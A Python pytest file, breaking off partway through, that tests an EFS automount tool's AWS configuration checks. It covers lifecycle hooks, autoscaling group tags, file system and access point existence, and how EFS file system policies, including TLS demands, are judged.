"""The configuration checks that read AWS (chalicelib/checks/configuration.py) and what they decide
(chalicelib/checks/rules.py): for each rule, a group that has the problem and one that does not; the landscape
as a platform team sets it up has none; whatever cannot be read is not sure, never a problem."""

from __future__ import annotations

import fnmatch
import itertools
import json
import re
from pathlib import Path
from typing import Any

import hypothesis
import hypothesis.strategies
import pytest
import yaml
from botocore.exceptions import ClientError
from moto.efs.models import efs_backends
from moto.ssm.models import ssm_backends

from chalicelib.checks import configuration, rules
from chalicelib.checks.configuration import (
    check_agents,
    check_document,
    check_file_system,
    check_file_system_policy,
    check_hook,
    check_tags,
)
from chalicelib.checks.document_digest import MOUNT_DOCUMENT_DIGEST
from chalicelib.checks.findings import Findings
from chalicelib.mount.spec import MountSpec
from chalicelib.plumbing.accounts import AwsAccess
from chalicelib.plumbing.lifecycle_result import LifecycleResult
from chalicelib.plumbing.settings import Settings
from simulation import hosts
from simulation.landscape import MOUNT_DOCUMENT, Landscape, scale_out
from tools import build_deploy

ROOT = Path(__file__).resolve().parent.parent
SETTINGS = Settings()
NO_SUCH_FILE_SYSTEM = "fs-0123456789abcdef0"
NO_SUCH_ACCESS_POINT = "fsap-0123456789abcdef0"
HOST_ROLE = "arn:aws:iam::123456789012:role/ecs-hosts"
MOUNT_AND_WRITE = ["elasticfilesystem:ClientMount", "elasticfilesystem:ClientWrite"]
# As AWS's console writes a policy: an Allow for every client through a mount target (without an Allow, a policy
# refuses every client that no IAM policy of its own allows, anonymous ones included), and the TLS demand.
ALLOW_THROUGH_MOUNT_TARGETS = {
    "Effect": "Allow",
    "Principal": {"AWS": "*"},
    "Action": MOUNT_AND_WRITE,
    "Condition": {"Bool": {"elasticfilesystem:AccessedViaMountTarget": "true"}},
}
TLS_DEMAND = {"Sid": "DenyPlainNfs", "Effect": "Deny", "Principal": {"AWS": "*"}, "Action": "*"}
CANONICAL_TLS_DEMAND = {**TLS_DEMAND, "Condition": {"Bool": {"aws:SecureTransport": "false"}}}


def access(land: Landscape) -> AwsAccess:
    return AwsAccess(land.account, land.region, land.session)


def raw_group(land: Landscape) -> dict[str, Any]:
    autoscaling = land.client("autoscaling")
    return autoscaling.describe_auto_scaling_groups(AutoScalingGroupNames=[land.group_name])["AutoScalingGroups"][0]


def tag_group(land: Landscape, **tags: str) -> None:
    land.client("autoscaling").create_or_update_tags(
        Tags=[
            {
                "ResourceId": land.group_name,
                "ResourceType": "auto-scaling-group",
                "Key": f"efs-automount:{key.replace('_', '-')}",
                "Value": value,
                "PropagateAtLaunch": False,
            }
            for key, value in tags.items()
        ]
    )


def hosts_in_service(land: Landscape, count: int, agents: str | None = "Online") -> list[str]:
    """`count` hosts let in by the hook (CONTINUE), their SSM agents registered with `agents` (None: never)."""
    instance_ids = scale_out(land, count)
    for instance_id in instance_ids:
        land.client("autoscaling").complete_lifecycle_action(
            LifecycleHookName=land.hook_name,
            AutoScalingGroupName=land.group_name,
            InstanceId=instance_id,
            LifecycleActionResult="CONTINUE",
        )
    if agents is not None:
        hosts.boot_agents(land, instance_ids, agents)
    return instance_ids


def create_access_point(land: Landscape, file_system_id: str | None = None) -> str:
    efs = land.client("efs")
    return efs.create_access_point(ClientToken="data", FileSystemId=file_system_id or land.file_system_id)[
        "AccessPointId"
    ]


def put_policy(land: Landscape, *policy_statements: dict[str, Any]) -> None:
    land.client("efs").put_file_system_policy(
        FileSystemId=land.file_system_id, Policy=json.dumps({"Version": "2012-10-17", "Statement": policy_statements})
    )


def run_checks(land: Landscape, settings: Settings = SETTINGS, group: dict[str, Any] | None = None) -> Findings:
    """Every check of this module for the landscape's group, as repair and the hourly run call them."""
    aws, group, findings = access(land), group or raw_group(land), Findings()
    check_hook(aws, group, settings.hook_name, findings)
    spec = check_tags(group, settings, findings)
    if spec is not None and check_file_system(aws, spec, findings):
        check_file_system_policy(aws, spec, None, findings)
    check_document(aws, settings.mount_document, MOUNT_DOCUMENT_DIGEST, findings)
    check_agents(aws, group, findings)
    return findings


def only(findings: Findings, rule: str) -> str:
    (problem,) = findings.problems
    assert problem.startswith(f"{rule}: ")
    return problem


# --- the landscape as the README asks -----------------------------------------------------------------------------


def test_the_landscape_with_hosts_in_service_has_no_problem_and_nothing_unsure(land):
    # Given the landscape, two hosts in service with their agents online
    hosts_in_service(land, 2)

    findings = run_checks(land)

    assert findings.problems == []
    assert findings.unsure == []


def test_a_group_with_an_access_point_and_the_usual_policy_has_no_problem(land):
    # Given an access point of the file system and a policy as AWS's console writes it: no anonymous access,
    # TLS demanded; the hosts' role is allowed by its own IAM policies, which the check does not read
    tag_group(land, access_point_id=create_access_point(land))
    put_policy(
        land,
        {
            "Effect": "Allow",
            "Principal": {"AWS": "*"},
            "Action": ["elasticfilesystem:ClientRootAccess", "elasticfilesystem:ClientWrite"],
            "Condition": {"Bool": {"elasticfilesystem:AccessedViaMountTarget": "true"}},
        },
        CANONICAL_TLS_DEMAND,
    )
    hosts_in_service(land, 1)

    findings = run_checks(land)

    assert findings.problems == []


# --- hook-missing, hook-timeout -----------------------------------------------------------------------------------


def test_a_group_without_the_hook_is_told_to_create_it(land):
    land.client("autoscaling").delete_lifecycle_hook(LifecycleHookName=land.hook_name, AutoScalingGroupName="ecs-hosts")
    findings = Findings()

    check_hook(access(land), raw_group(land), SETTINGS.hook_name, findings)

    problem = only(findings, "hook-missing")
    assert "group ecs-hosts has no launch lifecycle hook named efs-automount" in problem
    assert "its hosts go in service unmounted; create it" in problem


@pytest.fixture
def land_with_another_hook(land):
    autoscaling = land.client("autoscaling")
    autoscaling.delete_lifecycle_hook(LifecycleHookName=land.hook_name, AutoScalingGroupName=land.group_name)
    autoscaling.put_lifecycle_hook(
        LifecycleHookName="someone-elses",
        AutoScalingGroupName=land.group_name,
        LifecycleTransition="autoscaling:EC2_INSTANCE_LAUNCHING",
        HeartbeatTimeout=900,
    )
    return land


def test_a_hook_of_another_name_is_not_the_apps(land_with_another_hook):
    findings = Findings()

    check_hook(access(land_with_another_hook), raw_group(land_with_another_hook), "efs-automount", findings)

    assert findings.rules() == ["hook-missing"]


def test_a_termination_hook_with_the_apps_name_is_no_launch_hook(land):
    land.client("autoscaling").put_lifecycle_hook(
        LifecycleHookName=land.hook_name,
        AutoScalingGroupName=land.group_name,
        LifecycleTransition="autoscaling:EC2_INSTANCE_TERMINATING",
        HeartbeatTimeout=900,
    )
    findings = Findings()

    check_hook(access(land), raw_group(land), SETTINGS.hook_name, findings)

    assert "for autoscaling:EC2_INSTANCE_TERMINATING, not a launch lifecycle hook" in only(findings, "hook-missing")


def test_a_hook_timing_out_within_two_minutes_is_reported_with_its_value(land):
    land.client("autoscaling").put_lifecycle_hook(
        LifecycleHookName=land.hook_name,
        AutoScalingGroupName=land.group_name,
        LifecycleTransition="autoscaling:EC2_INSTANCE_LAUNCHING",
        HeartbeatTimeout=60,
    )
    findings = Findings()

    check_hook(access(land), raw_group(land), SETTINGS.hook_name, findings)

    problem = only(findings, "hook-timeout")
    assert "heartbeat timeout of 60 s" in problem and "group ecs-hosts" in problem
    assert "set it to 120 s or more (900 s suggested)" in problem


@pytest.mark.parametrize(
    ("hooks", "rules_found"),
    [
        ([], ["hook-missing"]),
        ([{"LifecycleHookName": "efs-automount", "LifecycleTransition": rules.LAUNCHING}], []),  # 3600 s by default
        ([{"LifecycleHookName": "efs-automount", "LifecycleTransition": rules.LAUNCHING, "HeartbeatTimeout": 120}], []),
        (
            [{"LifecycleHookName": "efs-automount", "LifecycleTransition": rules.LAUNCHING, "HeartbeatTimeout": 119}],
            ["hook-timeout"],
        ),
        ([{"LifecycleHookName": "other", "LifecycleTransition": rules.LAUNCHING}], ["hook-missing"]),
    ],
)
def test_judge_hook(hooks, rules_found):
    findings = Findings()
    rules.judge_hook("g", "efs-automount", hooks, findings)
    assert findings.rules() == rules_found


CREATE_HOOK = (
    "create it (transition autoscaling:EC2_INSTANCE_LAUNCHING, heartbeat timeout 900 s, default result ABANDON)"
)


@pytest.mark.parametrize(
    ("hooks", "problem"),
    [
        (
            [],
            "hook-missing: group g has no launch lifecycle hook named efs-automount: its hosts go in service "
            f"unmounted; {CREATE_HOOK}",
        ),
        (
            [{"LifecycleHookName": "efs-automount", "LifecycleTransition": "autoscaling:EC2_INSTANCE_TERMINATING"}],
            "hook-missing: group g has a hook named efs-automount for autoscaling:EC2_INSTANCE_TERMINATING, not a "
            f"launch lifecycle hook: its hosts go in service unmounted; delete it and {CREATE_HOOK}",
        ),
        (
            [{"LifecycleHookName": "efs-automount", "LifecycleTransition": rules.LAUNCHING, "HeartbeatTimeout": 60}],
            "hook-timeout: the hook efs-automount of group g has a heartbeat timeout of 60 s, under the 120 s the app "
            "heartbeats within: a host's wait can end with the hook's default result while it is being mounted; set "
            "it to 120 s or more (900 s suggested)",
        ),
    ],
)
def test_given_a_hook_the_app_cannot_work_with_when_judged_then_the_problem_says_what_to_do(hooks, problem):
    findings = Findings()
    rules.judge_hook("g", "efs-automount", hooks, findings)
    assert findings.problems == [problem]


# --- tag-invalid ----------------------------------------------------------------------------------------------------


def test_a_group_tag_the_launch_step_refuses_is_named_with_why(land):
    tag_group(land, mount_path="/etc/efs", on_failure="MAYBE")
    findings = Findings()

    spec = check_tags(raw_group(land), SETTINGS, findings)

    assert spec is None
    assert findings.rules() == ["tag-invalid", "tag-invalid"]
    mount_path, on_failure = findings.problems
    assert "group ecs-hosts, tag efs-automount:mount-path: '/etc/efs' is not strictly under one of MOUNT_ROOTS" in (
        mount_path
    )
    assert "tag efs-automount:on-failure: 'MAYBE' is neither ABANDON nor CONTINUE" in on_failure
    # The on-failure tag is invalid too: the launch step completes with the ON_FAILURE setting.
    assert mount_path.endswith("no mount command is sent to its hosts, and each launch is completed ABANDON")


def test_valid_tags_give_the_mount_the_group_asks_for(land):
    tag_group(land, mount_path="/data/shared", on_failure="CONTINUE")
    findings = Findings()

    spec = check_tags(raw_group(land), SETTINGS, findings)

    assert spec == MountSpec(land.file_system_id, "/data/shared")
    assert findings.problems == []


@pytest.mark.parametrize(
    ("tags", "roots", "problems"),
    [
        ({"efs-automount:file-system-id": "fs-12345678"}, ("/mnt",), []),
        (
            {"efs-automount:file-system-id": "fs-12345678", "efs-automount:on-failure": "CONTINUE"},
            ("/srv",),
            [
                "tag-invalid: group g, tag efs-automount:mount-path: not set, so the default applies: "
                "'/mnt/efs/fs-12345678' is not strictly under one of MOUNT_ROOTS (/srv), set when the app is "
                "deployed; no mount command is sent to its hosts, and each launch is completed CONTINUE"
            ],
        ),
        (
            {"efs-automount:file-system-id": "fs-XYZ", "efs-automount:access-point-id": "fsap-1"},
            ("/mnt",),
            [
                "tag-invalid: group g, tag efs-automount:file-system-id: 'fs-XYZ' is not fs- followed by 8 or 17 "
                "hex digits; no mount command is sent to its hosts, and each launch is completed ABANDON",
                "tag-invalid: group g, tag efs-automount:access-point-id: 'fsap-1' is not fsap- followed by 17 "
                "hex digits; no mount command is sent to its hosts, and each launch is completed ABANDON",
            ],
        ),
        ({"efs-automount:mount-path": "/etc"}, ("/mnt",), []),  # no file system tag: not a group the app mounts
    ],
)
def test_judge_tags(tags, roots, problems):
    findings = Findings()
    rules.judge_tags("g", tags, roots, LifecycleResult.ABANDON, findings)
    assert findings.problems == problems


@pytest.mark.parametrize(
    ("tags", "roots", "spec"),
    [
        ({"efs-automount:file-system-id": "fs-12345678"}, ("/mnt",), MountSpec("fs-12345678", "/mnt/efs/fs-12345678")),
        (
            {
                "efs-automount:file-system-id": "fs-12345678",
                "efs-automount:mount-path": "/opt/shared/data",
                "efs-automount:access-point-id": "fsap-0123456789abcdef0",
                "efs-automount:on-failure": "CONTINUE",
            },
            ("/opt/shared",),
            MountSpec("fs-12345678", "/opt/shared/data", "fsap-0123456789abcdef0"),
        ),
    ],
)
def test_given_valid_tags_when_judged_then_the_mount_the_group_asks_for_is_returned_and_nothing_reported(
    tags, roots, spec
):
    findings = Findings()
    assert rules.judge_tags("g", tags, roots, LifecycleResult.ABANDON, findings) == spec
    assert findings.problems == []


def test_given_a_mount_path_outside_the_deployed_roots_when_judged_then_it_is_named_and_no_mount_returned():
    findings = Findings()
    tags = {"efs-automount:file-system-id": "fs-12345678", "efs-automount:mount-path": "/mnt/efs/data"}
    assert rules.judge_tags("g", tags, ("/opt/shared",), LifecycleResult.ABANDON, findings) is None
    assert findings.problems == [
        "tag-invalid: group g, tag efs-automount:mount-path: '/mnt/efs/data' is not strictly under one of MOUNT_ROOTS "
        "(/opt/shared), set when the app is deployed; no mount command is sent to its hosts, and each launch is "
        "completed ABANDON"
    ]


# --- file-system-missing, access-point-mismatch ---------------------------------------------------------------------


def test_a_file_system_that_is_there_is_no_problem(land):
    findings = Findings()
    assert check_file_system(access(land), MountSpec(land.file_system_id, "/mnt/efs/x"), findings)
    assert findings.problems == []


def test_a_file_system_missing_from_the_account_and_region_is_named(land):
    findings = Findings()

    assert not check_file_system(access(land), MountSpec(NO_SUCH_FILE_SYSTEM, "/mnt/efs/x"), findings)

    assert only(findings, "file-system-missing").startswith(
        f"file-system-missing: file system {NO_SUCH_FILE_SYSTEM} does not exist in account 123456789012, "
        "region us-east-1"
    )


def test_a_file_system_being_deleted_is_missing_and_one_being_created_is_not_sure(land):
    file_system = efs_backends[land.account][land.region].file_systems_by_id[land.file_system_id]
    spec = MountSpec(land.file_system_id, "/mnt/efs/x")
    file_system.life_cycle_state = "deleting"
    findings = Findings()

    assert not check_file_system(access(land), spec, findings)
    assert "is deleting, not available" in only(findings, "file-system-missing")

    file_system.life_cycle_state = "creating"
    findings = Findings()
    assert not check_file_system(access(land), spec, findings)
    assert findings.problems == [] and findings.unsure


def test_the_groups_access_point_of_its_file_system_is_no_problem(land):
    findings = Findings()
    spec = MountSpec(land.file_system_id, "/mnt/efs/x", create_access_point(land))

    assert check_file_system(access(land), spec, findings)

    assert findings.problems == []


def test_an_access_point_that_does_not_exist_is_named(land):
    findings = Findings()

    check_file_system(access(land), MountSpec(land.file_system_id, "/mnt/efs/x", NO_SUCH_ACCESS_POINT), findings)

    assert f"access point {NO_SUCH_ACCESS_POINT} does not exist in account" in only(findings, "access-point-mismatch")


def test_an_access_point_of_another_file_system_is_named_with_its_owner(land):
    other = land.client("efs").create_file_system(CreationToken="other")["FileSystemId"]
    access_point_id = create_access_point(land, other)
    findings = Findings()

    check_file_system(access(land), MountSpec(land.file_system_id, "/mnt/efs/x", access_point_id), findings)

    problem = only(findings, "access-point-mismatch")
    assert f"access point {access_point_id} belongs to file system {other}, not to the group's" in problem


# --- file-system-policy ---------------------------------------------------------------------------------------------


def policy_findings(land: Landscape, spec: MountSpec, require_tls: bool | None = None) -> Findings:
    findings = Findings()
    check_file_system_policy(access(land), spec, require_tls, findings)
    return findings


def test_a_tls_demand_the_app_reads_is_met_by_its_mount(land):
    # Given the canonical TLS demand: the app's mount command then requires TLS
    put_policy(land, ALLOW_THROUGH_MOUNT_TARGETS, CANONICAL_TLS_DEMAND)
    spec = MountSpec(land.file_system_id, "/mnt/efs/x")

    assert policy_findings(land, spec).problems == []
    assert policy_findings(land, spec, require_tls=True).problems == []


def test_a_tls_demand_the_app_does_not_read_is_not_sure_not_a_problem(land):
    # Given a TLS demand written with BoolIfExists, which the launch step does not read as one: the mount works
    # where the host's helper mounts with TLS (amazon-efs-utils, which the script installs where it can), and
    # fails where it mounts plain NFS. No API says which: logged, not reported (no false alarm).
    put_policy(
        land,
        ALLOW_THROUGH_MOUNT_TARGETS,
        {**TLS_DEMAND, "Condition": {"BoolIfExists": {"aws:SecureTransport": "false"}}},
    )
    spec = MountSpec(land.file_system_id, "/mnt/efs/x")

    findings = policy_findings(land, spec)

    assert findings.problems == []
    assert any("refuses elasticfilesystem:ClientMount without TLS" in u for u in findings.unsure), findings.unsure
    assert any("depends on the host's mount helper" in u for u in findings.unsure)
    # With an access point the hosts always mount over TLS.
    access_point_spec = MountSpec(land.file_system_id, "/mnt/efs/x", create_access_point(land))
    assert policy_findings(land, access_point_spec).problems == []


def test_a_policy_denying_every_mount_is_reported(land):
    put_policy(land, {"Sid": "NoOne", "Effect": "Deny", "Principal": "*", "Action": "elasticfilesystem:Client*"})

    problem = only(policy_findings(land, MountSpec(land.file_system_id, "/mnt/efs/x")), "file-system-policy")

    assert problem.startswith(
        f"file-system-policy: the policy of file system {land.file_system_id} refuses elasticfilesystem:ClientMount "
        "to anonymous clients"
    )
    assert "statement 'NoOne' denies elasticfilesystem:ClientMount; its hosts cannot mount it" in problem


def test_a_policy_allowing_only_a_role_refuses_hosts_mounting_without_iam_and_is_not_sure_with_it(land):
    put_policy(
        land,
        {
            "Effect": "Allow",
            "Principal": {"AWS": HOST_ROLE},
            "Action": ["elasticfilesystem:ClientMount", "elasticfilesystem:ClientWrite"],
        },
    )

    anonymous = policy_findings(land, MountSpec(land.file_system_id, "/mnt/efs/x"))
    with_iam = policy_findings(land, MountSpec(land.file_system_id, "/mnt/efs/x", create_access_point(land)))

    assert "no statement allows elasticfilesystem:ClientMount to an anonymous client" in only(
        anonymous, "file-system-policy"
    )
    assert with_iam.problems == [] and with_iam.unsure


def test_no_policy_is_the_default_policy_which_refuses_nothing(land):
    findings = policy_findings(land, MountSpec(land.file_system_id, "/mnt/efs/x"))
    assert findings.problems == [] and findings.unsure == []


def test_a_policy_of_only_a_tls_demand_refuses_hosts_mounting_without_iam(land):
    # Given a policy that only denies plain NFS: it replaces the default policy, and allows nobody
    put_policy(land, CANONICAL_TLS_DEMAND)

    problem = only(policy_findings(land, MountSpec(land.file_system_id, "/mnt/efs/x")), "file-system-policy")

    assert "no statement allows elasticfilesystem:ClientMount to an anonymous client" in problem


FS_ARN = "arn:aws:elasticfilesystem:us-east-1:123456789012:file-system/fs-12345678"
AP_ARN = "arn:aws:elasticfilesystem:us-east-1:123456789012:access-point/fsap-0123456789abcdef0"
ANONYMOUS = rules.MountRequest(FS_ARN, None, require_tls=False)
WITH_ACCESS_POINT = rules.MountRequest(FS_ARN, AP_ARN, require_tls=True)


def judged(request: rules.MountRequest, *policy_statements: dict[str, Any]) -> Findings:
    findings = Findings()
    policy = {"Version": "2012-10-17", "Statement": list(policy_statements)}
    rules.judge_file_system_policy("fs-12345678", json.dumps(policy), request, findings)
    return findings


@pytest.mark.parametrize(
    ("request_", "statement", "outcome"),
    [
        # Allowed to everyone through a mount target: fine for both kinds of client.
        (ANONYMOUS, ALLOW_THROUGH_MOUNT_TARGETS, "fine"),
        (WITH_ACCESS_POINT, {"Effect": "Allow", "Principal": "*", "Action": "elasticfilesystem:*"}, "fine"),
        # Read-only for everyone: the group asks read-write.
        (ANONYMOUS, {"Effect": "Allow", "Principal": "*", "Action": "elasticfilesystem:ClientMount"}, "problem"),
        # A condition the check cannot evaluate (aws:SourceIp): not sure, never a problem.
        (
            ANONYMOUS,
            {
                "Effect": "Deny",
                "Principal": "*",
                "Action": "*",
                "NotResource": "arn:aws:elasticfilesystem:*:*:file-system/fs-other",
                "Condition": {"NotIpAddress": {"aws:SourceIp": "10.0.0.0/8"}},
            },
            "unsure",
        ),
        # Only through one access point: not the anonymous mount (no access point), and the group's own one is.
        (
            ANONYMOUS,
            {
                "Effect": "Deny",
                "Principal": "*",
                "Action": "*",
                "Condition": {"StringNotEquals": {"elasticfilesystem:AccessPointArn": AP_ARN}},
            },
            "problem",
        ),
        (
            WITH_ACCESS_POINT,
            {
                "Effect": "Deny",
                "Principal": "*",
                "Action": "*",
                "Condition": {"StringNotLike": {"elasticfilesystem:AccessPointArn": "*:access-point/fsap-0123*"}},
            },
            "fine",
        ),
        # A Deny naming a role may name the hosts': not sure. It does not name an anonymous client.
        (WITH_ACCESS_POINT, {"Effect": "Deny", "Principal": {"AWS": HOST_ROLE}, "Action": "*"}, "unsure"),
        (ANONYMOUS, {"Effect": "Deny", "Principal": {"AWS": HOST_ROLE}, "Action": "*"}, "fine"),
        (ANONYMOUS, {"Effect": "Deny", "NotPrincipal": {"AWS": HOST_ROLE}, "Action": "*"}, "unsure"),
        # A service principal is no client of a mount.
        (ANONYMOUS, {"Effect": "Deny", "Principal": {"Service": "ec2.amazonaws.com"}, "Action": "*"}, "fine"),
        # Actions are named in any case (IAM compares them case-insensitively); resources in their own.
        (ANONYMOUS, {"Effect": "Deny", "Principal": "*", "Action": "ElasticFileSystem:clientmount"}, "problem"),
        (ANONYMOUS, {"Effect": "Deny", "Principal": "*", "NotAction": "ELASTICFILESYSTEM:CLIENT*"}, "fine"),
        (ANONYMOUS, {"Effect": "Deny", "Principal": "*", "Action": "*", "Resource": FS_ARN.upper()}, "unsure"),
        # Another resource, in a policy on this file system: not known what it means here.
        (ANONYMOUS, {"Effect": "Deny", "Principal": "*", "Action": "*", "Resource": FS_ARN + "0"}, "unsure"),
        # What is not shaped as the IAM documents say is not known, never a crash.
        (ANONYMOUS, {"Effect": "Deny", "Principal": "*", "Action": 5}, "unsure"),
        (ANONYMOUS, {"Effect": "Deny", "Principal": "*", "NotAction": 5}, "unsure"),
        (ANONYMOUS, {"Effect": "Deny", "Principal": "*", "Action": "*", "Condition": {"Bool": "x"}}, "unsure"),
    ],
)
def test_judge_file_system_policy(request_, statement, outcome):
    findings = judged(request_, {"Effect": "Allow", "Principal": "*", "Action": MOUNT_AND_WRITE}, statement)
    if statement["Effect"] == "Allow":
        findings = judged(request_, statement)
    assert ("problem" if findings.problems else "unsure" if findings.unsure else "fine") == outcome


def test_a_read_only_policy_says_the_mount_would_be_read_only():
    findings = judged(ANONYMOUS, {"Effect": "Allow", "Principal": "*", "Action": "elasticfilesystem:ClientMount"})
    assert "refuses elasticfilesystem:ClientWrite to anonymous clients" in only(findings, "file-system-policy")
    assert "its hosts' mount is read-only, and the group asks for read-write" in findings.problems[0]


SECURE_TRANSPORT = "aws:SecureTransport"
ANONYMOUS_CLIENTS = "anonymous clients (the group has no access point, so its hosts mount without IAM)"
HOSTS_ROLE = "the hosts' instance role (they mount the group's access point with IAM)"
TLS_FOOTNOTE = (
    "the app's mount command does not require TLS (it reads a TLS demand only as a Deny with "
    '{"Bool": {"aws:SecureTransport": "false"}}), so it depends on the host\'s mount helper'
)


@pytest.mark.parametrize(
    ("request_", "policy_statements", "problems", "unsure"),
    [
        (
            ANONYMOUS,
            [ALLOW_THROUGH_MOUNT_TARGETS, {"Sid": "NoMounts", "Effect": "Deny", "Principal": "*", "Action": "*"}],
            [
                "file-system-policy: the policy of file system fs-12345678 refuses elasticfilesystem:ClientMount to "
                f"{ANONYMOUS_CLIENTS}: statement 'NoMounts' denies elasticfilesystem:ClientMount; its hosts cannot "
                "mount it; change the policy"
            ],
            [],
        ),
        (  # a statement without a Sid is named by its place, from 1
            ANONYMOUS,
            [ALLOW_THROUGH_MOUNT_TARGETS, {"Sid": "", "Effect": "Deny", "Principal": "*", "Action": "*"}],
            [
                "file-system-policy: the policy of file system fs-12345678 refuses elasticfilesystem:ClientMount to "
                f"{ANONYMOUS_CLIENTS}: statement 2 denies elasticfilesystem:ClientMount; its hosts cannot mount it; "
                "change the policy"
            ],
            [],
        ),
        (
            ANONYMOUS,
            [],
            [
                "file-system-policy: the policy of file system fs-12345678 refuses elasticfilesystem:ClientMount to "
                f"{ANONYMOUS_CLIENTS}: no statement allows elasticfilesystem:ClientMount to an anonymous client; its "
                "hosts cannot mount it; change the policy"
            ],
            [],
        ),
        (
            WITH_ACCESS_POINT,
            [{"Effect": "Deny", "Principal": "*", "Action": "*"}],
            [
                "file-system-policy: the policy of file system fs-12345678 refuses elasticfilesystem:ClientMount to "
                f"{HOSTS_ROLE}: statement 1 denies elasticfilesystem:ClientMount; its hosts cannot mount it; change "
                "the policy"
            ],
            [],
        ),
        (
            ANONYMOUS,
            [{"Effect": "Allow", "Principal": "*", "Action": "elasticfilesystem:ClientMount"}],
            [
                "file-system-policy: the policy of file system fs-12345678 refuses elasticfilesystem:ClientWrite to "
                f"{ANONYMOUS_CLIENTS}: no statement allows elasticfilesystem:ClientWrite to an anonymous client; its "
                "hosts' mount is read-only, and the group asks for read-write; change the policy"
            ],
            [],
        ),
        (
            WITH_ACCESS_POINT,
            [],
            [],
            [
                "file-system-policy: the policy of fs-12345678: no statement allows elasticfilesystem:ClientMount: the "
                "hosts' role may be allowed by its own IAM policies"
            ],
        ),
        (
            WITH_ACCESS_POINT,
            [
                {"Effect": "Allow", "Principal": "*", "Action": "*"},
                {"Sid": "Roles", "Effect": "Deny", "Principal": {"AWS": HOST_ROLE}, "Action": "*"},
            ],
            [],
            [
                "file-system-policy: the policy of fs-12345678: statement 'Roles' may deny "
                "elasticfilesystem:ClientMount (a principal or condition not known here)"
            ],
        ),
        (
            WITH_ACCESS_POINT,
            [{"Effect": "Allow", "Principal": {"AWS": HOST_ROLE}, "Action": "*"}],
            [],
            [
                "file-system-policy: the policy of fs-12345678: whether a statement allows "
                "elasticfilesystem:ClientMount rests on a principal or condition not known here"
            ],
        ),
        (
            ANONYMOUS,
            [
                {"Effect": "Allow", "Principal": "*", "Action": "*"},
                {"Effect": "Deny", "Principal": "*", "Action": "*", "Condition": {"Bool": {SECURE_TRANSPORT: "false"}}},
            ],
            [],
            [
                f"file-system-policy: the policy of fs-12345678 refuses {action} without TLS (statement 2 denies "
                f"{action}); {TLS_FOOTNOTE}"
                for action in MOUNT_AND_WRITE
            ],
        ),
        (
            ANONYMOUS,
            [
                {"Effect": "Allow", "Principal": "*", "Action": "*"},
                {"Effect": "Deny", "Principal": "*", "Action": "*", "Condition": {"Bool": {SECURE_TRANSPORT: "true"}}},
            ],
            [],
            [
                f"file-system-policy: the policy of fs-12345678 refuses {action} over TLS (statement 2 denies "
                f"{action}); {TLS_FOOTNOTE}"
                for action in MOUNT_AND_WRITE
            ],
        ),
    ],
)
def test_given_a_policy_when_judged_then_its_sentences_name_the_statement_the_action_and_the_client(
    request_, policy_statements, problems, unsure
):
    findings = Findings()
    rules.judge_file_system_policy("fs-12345678", json.dumps({"Statement": policy_statements}), request_, findings)
    assert (findings.problems, findings.unsure) == (problems, unsure)


def test_given_a_request_when_its_tls_is_asked_then_only_an_anonymous_mount_without_require_tls_may_go_either_way():
    assert ANONYMOUS.tls_cases() == (True, False)
    assert rules.MountRequest(FS_ARN, None, require_tls=True).tls_cases() == (True,)
    assert WITH_ACCESS_POINT.tls_cases() == (True,)
    assert rules.MountRequest(FS_ARN, AP_ARN, require_tls=False).tls_cases() == (True,)  # efs-utils: tls with iam


@pytest.mark.parametrize("policy_text", ["not json", "[]", '{"Statement": ["x"]}', '{"Statement": 5}'])
def test_given_a_policy_not_shaped_as_iam_documents_when_judged_then_it_is_not_sure(policy_text):
    findings = Findings()
    rules.judge_file_system_policy("fs-12345678", policy_text, ANONYMOUS, findings)
    assert findings.problems == []
    assert findings.unsure == ["file-system-policy: the policy of fs-12345678 is not shaped as IAM documents"]


def test_given_conditions_under_two_operators_when_one_fails_then_the_statement_does_not_apply():
    context = ANONYMOUS.context(tls=True)
    both = {"Bool": {"aws:SecureTransport": "false"}, "Null": {"elasticfilesystem:AccessPointArn": "true"}}
    assert rules._conditions({"Condition": both}, context) is False
    assert rules._conditions({"Condition": dict(reversed(both.items()))}, context) is False


def test_a_policy_with_one_statement_object_is_read_like_a_list():
    policy = {"Statement": {"Effect": "Deny", "Principal": "*", "Action": "*"}}
    findings = Findings()
    rules.judge_file_system_policy("fs-12345678", json.dumps(policy), ANONYMOUS, findings)
    assert findings.rules() == ["file-system-policy"]


def test_a_policy_that_is_no_iam_document_is_not_sure():
    findings = Findings()
    rules.judge_file_system_policy("fs-12345678", '{"Statement": [{"Effect": "Maybe"}]}', ANONYMOUS, findings)
    assert findings.problems == [] and findings.unsure


# A model of how EFS decides a client's action under a file system policy, written apart from rules.py and run in
# every world the check cannot see into: whether the statement naming a role names the hosts' role, whether a
# condition on a key the check does not model holds, whether the role's own IAM policies allow the action.
OTHER_AP_ARN = AP_ARN.replace("0123456789abcdef0", "0fedcba9876543210")
PRINCIPALS: list[tuple[dict[str, Any], Any]] = [
    ({"Principal": "*"}, lambda world, anonymous: True),
    ({"Principal": {"AWS": "*"}}, lambda world, anonymous: True),
    ({"Principal": {"AWS": HOST_ROLE}}, lambda world, anonymous: not anonymous and world["named"]),
    ({"NotPrincipal": {"AWS": HOST_ROLE}}, lambda world, anonymous: anonymous or not world["named"]),
]
ACTIONS: list[dict[str, Any]] = [
    {"Action": "*"},
    {"Action": "elasticfilesystem:ClientMount"},
    {"Action": ["elasticfilesystem:clientwrite", "elasticfilesystem:ClientRootAccess"]},
    {"Action": "elasticfilesystem:Client*"},
    {"NotAction": "elasticfilesystem:ClientWrite"},
]
# Each condition with what it means for (tls, access point ARN or None, the world, the statement's index).
CONDITIONS: list[tuple[dict[str, Any] | None, Any]] = [
    (None, lambda tls, ap, world, i: True),
    ({"Bool": {"aws:SecureTransport": "false"}}, lambda tls, ap, world, i: not tls),
    ({"Bool": {"aws:SecureTransport": "true"}}, lambda tls, ap, world, i: tls),
    ({"BoolIfExists": {"aws:SecureTransport": "false"}}, lambda tls, ap, world, i: not tls),
    ({"Bool": {"elasticfilesystem:AccessedViaMountTarget": "true"}}, lambda tls, ap, world, i: True),
    ({"StringEquals": {"elasticfilesystem:AccessPointArn": AP_ARN}}, lambda tls, ap, world, i: ap == AP_ARN),
    ({"StringNotEquals": {"elasticfilesystem:AccessPointArn": AP_ARN}}, lambda tls, ap, world, i: ap != AP_ARN),
    (
        {"StringEqualsIfExists": {"elasticfilesystem:AccessPointArn": OTHER_AP_ARN}},
        lambda tls, ap, world, i: ap is None or ap == OTHER_AP_ARN,
    ),
    ({"Null": {"elasticfilesystem:AccessPointArn": "true"}}, lambda tls, ap, world, i: ap is None),
    ({"IpAddress": {"aws:SourceIp": "203.0.113.0/24"}}, lambda tls, ap, world, i: world[i]),
